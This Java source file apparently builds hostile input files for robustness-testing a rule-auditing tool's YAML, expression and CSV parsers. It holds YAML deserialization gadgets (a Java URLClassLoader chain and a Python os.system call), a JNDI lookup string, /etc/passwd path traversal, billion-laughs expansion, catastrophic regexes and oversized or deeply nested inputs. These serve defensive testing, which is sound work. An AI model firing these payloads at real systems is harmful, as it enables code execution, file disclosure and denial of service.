package org.fineaudit.attack;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Supplier;

/** Hostile rule files; each stands in a folder beside the sound ones. */
public final class RuleAttacks {
  private static final String RULE =
      """
      problem: maximum-tier
      rules:
        - id: attack-rule
          name: 甲
          strength: soft
          concerns: 甲
          flags: 乙
          basis: [《甲法》第一条]
          when: WHEN
          flag: FLAG
          message: 甲
          remedy: 乙
          tests: []
      """;

  private final List<Attack> attacks = new ArrayList<>();

  public static List<Attack> all() {
    RuleAttacks all = new RuleAttacks();
    all.yaml();
    all.conditions();
    all.tables();
    return all.attacks;
  }

  private void add(String file, Supplier<byte[]> bytes) {
    attacks.add(new Attack(Attack.Group.RULES, file, bytes));
  }

  private void yaml(String name, String text) {
    add("attack-" + name + ".yaml", () -> text.getBytes(StandardCharsets.UTF_8));
  }

  private void yaml() {
    yaml("sound", rule("true", "fine > 1.0"));
    yaml("empty", "");
    yaml("blank", "\n \n");
    yaml("list", "- a\n");
    yaml("scalar", "a");
    yaml("two-documents", rule("true", "true") + "---\n" + rule("true", "true"));
    yaml("laughs", laughs());
    yaml("alias", "a: &a [x]\nb: *a\n");
    yaml("alias-loop", "a: &a [*a]\n");
    yaml("merge", "a: &a {x: y}\nb: {<<: *a}\n");
    yaml(
        "tag-java",
        "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.invalid\"]]]]\n");
    yaml("tag-python", "a: !!python/object/apply:os.system ['id']\n");
    yaml("tag-own", "a: !x y\n");
    yaml("tag-binary", "a: !!binary AAAA\n");
    yaml("tag-set", "!!set {a, b}\n");
    yaml("tag-directive", "%TAG ! tag:x.invalid,2000:\n---\na: !b c\n");
    yaml("directive", "%YAML 9.9\n---\na: b\n");
    yaml("deep-list", "a: " + "[".repeat(50_000));
    yaml("deep-map", "a: " + "{b: ".repeat(50_000));
    yaml("deep-block", deepBlock());
    yaml("deep-dashes", "- ".repeat(100_000) + "a\n");
    yaml("key-twice", "problem: maximum-tier\nproblem: procedure\nrules: []\n");
    yaml("key-complex", "? [a, b]\n: c\n");
    yaml("key-null", "? \n: c\n");
    yaml("key-long", "k".repeat(2_000_000) + ": a\n");
    yaml("keys-many", keys());
    yaml("text-long", "problem: " + "甲".repeat(3_000_000) + "\n");
    yaml("large", "# " + "x".repeat(17 << 20) + "\n");
    yaml("large-quoted", "a: \"" + "x".repeat(15_000_000));
    yaml("items-many", "problem: maximum-tier\nrules:\n" + "  - {}\n".repeat(30_000));
    yaml("quote-open", "a: \"b\n");
    yaml("tab", "a:\n\tb: c\n");
    yaml("control", "a: \u0001\n");
    yaml("include", "include: ../../../etc/passwd\n" + rule("true", "true"));
    yaml("include-tag", "rules: !include /etc/passwd\n");
    yaml("utf16", "x");
    add("attack-utf16.yaml", () -> rule("true", "true").getBytes(StandardCharsets.UTF_16));
    add("attack-gbk.yaml", () -> rule("true", "true").getBytes(Charset.forName("GBK")));
    add("attack-nul.yaml", () -> new byte[10_000]);
    add(
        "attack-noise.yaml",
        () -> ZipAttacks.flipped(rule("true", "true").getBytes(StandardCharsets.UTF_8), 11));
  }

  private static String rule(String when, String flag) {
    return RULE.replace("WHEN", quoted(when)).replace("FLAG", quoted(flag));
  }

  private static String quoted(String text) {
    return "'" + text.replace("'", "''") + "'";
  }

  private static String laughs() {
    StringBuilder text = new StringBuilder("a0: &a0 [哈, 哈]\n");
    for (int i = 1; i < 12; i++) {
      text.append("a").append(i).append(": &a").append(i).append(" [");
      text.append(("*a" + (i - 1) + ", ").repeat(9)).append("*a").append(i - 1).append("]\n");
    }
    return text.toString();
  }

  private static String deepBlock() {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 2_000; i++) {
      text.append(" ".repeat(i)).append("a:\n");
    }
    return text.toString();
  }

  private static String keys() {
    StringBuilder text = new StringBuilder();
    for (int i = 0; i < 200_000; i++) {
      text.append('k').append(i).append(": 1\n");
    }
    return text.toString();
  }

  private void conditions() {
    String list = "[" + "'a',".repeat(300) + "'a']";
    String nested =
        "citations.all(a, citations.all(b, citations.all(c, citations.all(d, citations.all(e, a != b)))))";
    for (String condition :
        new String[] {
          "",
          " ",
          "fine",
          "1",
          "fine > ",
          "unknownFact > 1",
          "fine > '1'",
          "(".repeat(3_000) + "true" + ")".repeat(3_000),
          "!".repeat(3_900) + "true",
          "-".repeat(3_900) + "1 > 0",
          "true" + " && true".repeat(450),
          "true || ".repeat(20_000) + "true",
          "[".repeat(1_900) + "]".repeat(1_900) + " == []",
          "{".repeat(1_900) + "}".repeat(1_900) + " == {}",
          "true ? ".repeat(500) + "true" + " : false".repeat(500),
          list + ".all(a, " + list + ".all(b, " + list + ".all(c, a == b || b == c)))",
          list + ".map(a, " + list + ".map(b, a + b)).size() > 1",
          nested,
          "violation.matches('(a+)+$')",
          "violation.matches('(((a{1000}){1000}){1000}){1000}')",
          "violation.matches('a{1000}{1000}')",
          "violation.matches('" + "(".repeat(1_800) + "a" + ")".repeat(1_800) + "')",
          "violation.matches('(?:(?:a?){500}){500}b')",
          "violation.matches('[')",
          "violation.matches('(?=a)')",
          "violation.matches('\\\\1')",
          "violation.matches(partyName)",
          "violation.matches('\\\\p{L}{1,1000}{1,1000}')",
          "'a'.matches('" + "a*".repeat(1_900) + "')",
          "('" + "a".repeat(1_000) + "'" + " + 'b'".repeat(400) + ").size() > 1",
          "fine / 0.0 > 1.0",
          "1 / 0 > 1",
          "fine > 1e400",
          "fine > 99999999999999999999999999",
          "size(citations) % 0 == 1",
          "date('0000-00-00') < date('9999-99-99')",
          "date('+999999999-01-01') < date('2024-01-01')",
          "timestamp('x') > timestamp('y')",
          "duration('1h') > duration('2h')",
          "dyn(1) == dyn('a')",
          "type(fine) == double",
          "has(fine.x)",
          "fine.x.y.z",
          "has({'a': 1}.a)",
          "b'\\xff' == b''",
          "'\\ud800' == 'a'",
          "'\u0000' == partyName",
          "partyName + partyName + partyName == partyName",
          "workingDaysBetween(date('0001-01-01'), date('9999-12-31')) > 1.0",
          "daysBetween(date('0001-01-01'), date('9999-12-31')) > 1.0",
          "containsAny(violation, [" + "'a',".repeat(900) + "'b'])",
          "[1,2,3].exists_one(x, x == 1)",
          "google.protobuf.Any{} == null",
          "java.lang.System.exit(0)",
          "${jndi:ldap://x.invalid}"
        }) {
      yaml("condition-%02d".formatted(attacks.size()), rule("true", condition));
    }
    yaml(
        "message-facts",
        rule("true", "true").replace("message: 甲", "message: '" + "{fine}".repeat(100_000) + "'"));
    yaml("message-open", rule("true", "true").replace("message: 甲", "message: '{{{{fine'"));
    yaml("rules-many", manyRules());
  }

  private static String manyRules() {
    StringBuilder text = new StringBuilder("problem: maximum-tier\nrules:\n");
    String one = rule("fine > 1.0", "fine > 2.0").replaceFirst("(?s)^.*?rules:\n", "");
    for (int i = 0; i < 400; i++) {
      text.append(one.replace("attack-rule", "attack-rule-" + i));
    }
    return text.toString();
  }

  private void table(String file, String text) {
    add(file, () -> text.getBytes(StandardCharsets.UTF_8));
  }

  private void tables() {
    for (String file :
        new String[] {
          "statutes.csv", "holidays.csv", "limitation.csv", "discretion.csv", "violation-names.csv"
        }) {
      table(file, "");
      table(file, "a,b\n1,2\n");
      table(file, "\"".repeat(100_000));
      table(file, "a,b\n1,\"2\n");
      table(file, ",".repeat(1_000_000));
      table(file, "甲\n".repeat(1_000_000));
      add(file, () -> new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0});
    }
    for (String file :
        new String[] {
          "phrases.yaml",
          "ledger.yaml",
          "cohorts.yaml",
          "evidence.yaml",
          "columns.yaml",
          "attachment1.yaml",
          "report.yaml"
        }) {
      table(file, "");
      table(file, "a: b\n");
      table(file, "- ".repeat(100_000));
      table(file, laughs());
      table(file, keys());
    }
  }

  /** Hostile mapping files for {@code --columns}. */
  public static List<Attack> columns() {
    RuleAttacks all = new RuleAttacks();
    all.yaml();
    for (String text :
        new String[] {
          "fine: [罚款, 罚款]\n",
          "fine: 罚款金额(元)\nfine: x\n",
          "nothing: [x]\n",
          "fine: {headers: [x], units: {x: 斤}}\n",
          "fine: [" + "x, ".repeat(200_000) + "y]\n",
          "fine: [\"" + "(".repeat(100_000) + "\"]\n"
        }) {
      all.yaml("columns-" + all.attacks.size(), text);
    }
    return all.attacks.stream()
        .map(a -> new Attack(Attack.Group.COLUMNS, a.name(), a.content()))
        .toList();
  }
}
